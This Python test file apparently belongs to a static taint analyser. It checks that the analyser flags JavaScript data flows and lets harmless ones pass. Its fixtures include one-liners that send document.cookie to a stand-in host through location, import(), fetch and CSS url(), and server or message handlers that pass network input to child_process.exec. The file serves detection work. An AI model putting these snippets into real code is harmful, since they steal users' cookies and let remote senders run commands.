"""A page that goes elsewhere takes what stands in its address along; who answers requests is handed them."""

import pytest
from engine_flows import flows

from ostiary.core.coverage import Reach
from ostiary.program.flow import Act, Taint

LEAVING = {
    "a bare name": "location = 'https://a.example.invalid/?' + document.cookie;",
    "of the window": "self.location = 'https://a.example.invalid/?' + document.cookie;",
    "in a function": "(() => { location = 'https://a.example.invalid/?' + document.cookie })();",
    "a module": "import('https://a.example.invalid/?' + document.cookie);",
    "a style": "document.body.style.background = 'url(https://a.example.invalid/?' + document.cookie + ')';",
}
STAYING = {
    "a name of its own": "let location = ''; location = 'https://a.example.invalid/?' + document.cookie;",
    "nothing of worth": "location = 'https://a.example.invalid/?' + Math.random();",
    "a colour": "document.body.style.background = 'red' + document.cookie;",
}
ASKED = {
    "express": "const a = require('express')(); a.post('/a', (q, r) => { RUN(q.body.c) });",
    "a router": "const a = require('express').Router(); a.get('/a', (q, r) => { RUN(q.query.c) });",
    "any request": "const a = require('express')(); a.use((q, r, next) => { RUN(q.body.c) });",
    "fastify": "const a = require('fastify')(); a.get('/a', async (q) => { RUN(q.query.c) });",
    "hapi": "const s = require('@hapi/hapi').server(); s."
    "route({method: 'GET', path: '/', handler: q => RUN(q.payload)});",
    "several of hapi": "const s = require('@hapi/hapi').server();"
    " s.route([{method: 'GET', path: '/', handler(q) { return RUN(q.payload) }}]);",
    "hono": "import { Hono } from 'hono'; const a = new Hono(); a.get('/a', (c) => { RUN(c.req.url) });",
}


@pytest.mark.parametrize("how", LEAVING)
def test_what_is_in_the_address_leaves(how: str) -> None:
    (one,) = flows(f"{LEAVING[how]}\n", Act.SEND, "npm")
    assert one.has(Taint.BROWSER, Taint.SECRET, Taint.TOKEN)
    assert "https://a.example.invalid/" in one.target


@pytest.mark.parametrize("how", STAYING)
def test_nothing_leaves(how: str) -> None:
    assert flows(f"{STAYING[how]}\n", Act.SEND, "npm") == []


@pytest.mark.parametrize("how", ASKED)
def test_a_request_is_what_runs(how: str) -> None:
    text = ASKED[how].replace("RUN", "require('child_process').exec")
    (one,) = flows(f"{text}\n", Act.RUN, "npm")
    assert one.has(Taint.NETWORK)
    assert one.reach is Reach.CALL


def test_what_another_library_hands_over_is_no_request() -> None:
    text = "const a = require('lru')(); a.get('/a', (q) => { require('child_process').exec(q) });\n"
    (one,) = flows(text, Act.RUN, "npm")
    assert not one.has(Taint.NETWORK)


def test_the_names_of_pages_mean_nothing_in_python() -> None:
    text = "import os\nlocation = 'https://a.example.invalid/?' + os.environ['TOKEN']\n"
    assert flows(text, Act.SEND) == []
    text = (
        "def f():\n    return this\nf().process.mainModule.require('child_process').exec('say')\n"
    )
    assert flows(text, Act.RUN) == []


def test_what_may_never_be_put_there_hides_nothing() -> None:
    text = "function never() { document.cookie = Math.PI }\n"
    text += "fetch('https://a.example.invalid/?' + document.cookie);\n"
    (one,) = flows(text, Act.SEND, "npm")
    assert one.has(Taint.BROWSER, Taint.SECRET, Taint.TOKEN)


SENT = {
    "whoever connects": "require('socket.io')(1).on('connection', s => RUN(s.handshake.a))",
    "a server of sockets": "new (require('ws').WebSocketServer)({}).on('connection', s => s."
    "on('message', m => RUN(m)))",
    "what is assigned": "new (require('ws').Server)({}).on('connection', s => { s.onmessage = m => RUN(m."
    "data) })",
    "any event": "require('socket.io')(1).on('connection', s => s.onAny((n, m) => RUN(m)))",
    "an object of functions": "new (require('pubnub'))({}).addListener({message: m => RUN(m.message)})",
    "a bound event": "new (require('pusher-js'))('k').subscribe('a').bind('b', m => RUN(m.a))",
    "each message": "new (require('kafkajs').Kafka)({}).consumer({})."
    "run({eachMessage: async ({message}) => RUN(message.value)})",
    "a queue": "require('amqplib').connect(U).then(c => c.createChannel()).then(c => c."
    "consume('q', m => RUN(m.content)))",
    "an option": "require('nats').connect().then(n => n.subscribe('x', {callback: (e, m) => RUN(m.data)}))",
    "one by one": "(async () => { const n = await require('nats').connect();"
    " for await (const m of n.subscribe('x')) RUN(m.data) })()",
    "a database": "new (require('pg').Client)().on('notification', m => RUN(m.payload))",
    "a store": "const {onValue, ref} = require('firebase/database'); onValue(ref(1, 'x'), s => RUN(s.val()))",
    "a bot": "new (require('node-telegram-bot-api'))('t').onText(/x/, (m, x) => RUN(x[1]))",
    "a server by options": "Bun.serve({fetch: async r => RUN(await r.text())})",
    "one inside of another": "Bun.serve({fetch() {}, websocket: {message(w, m) { RUN(m) }}})",
}
UNSENT = {
    "whoever connects to what a caller starts": "exports.go = () => require('socket.io')(1)"
    ".on('connection', s => RUN(s.handshake.a))",
    "what it says of itself": "new (require('ioredis'))().on('error', m => RUN(m.message))",
    "of no such library": "new (require('a'))({}).addListener({message: m => RUN(m.message)})",
    "settings": "const c = require('redis').createClient({socket: {reconnectStrategy: n => RUN(n)}})",
    "a word of the program": "new (require('ws').Server)({}).on('connection', s => s.on('message', m => "
    "RUN('a')))",
}


@pytest.mark.parametrize("how", SENT)
def test_what_somebody_sends_is_what_runs(how: str) -> None:
    text = SENT[how].replace("RUN", "require('child_process').exec")
    assert any(one.has(Taint.NETWORK) for one in flows(f"{text}\n", Act.RUN, "npm"))


@pytest.mark.parametrize("how", UNSENT)
def test_nobody_sent_it(how: str) -> None:
    text = UNSENT[how].replace("RUN", "require('child_process').exec")
    assert not any(one.has(Taint.NETWORK) for one in flows(f"{text}\n", Act.RUN, "npm"))
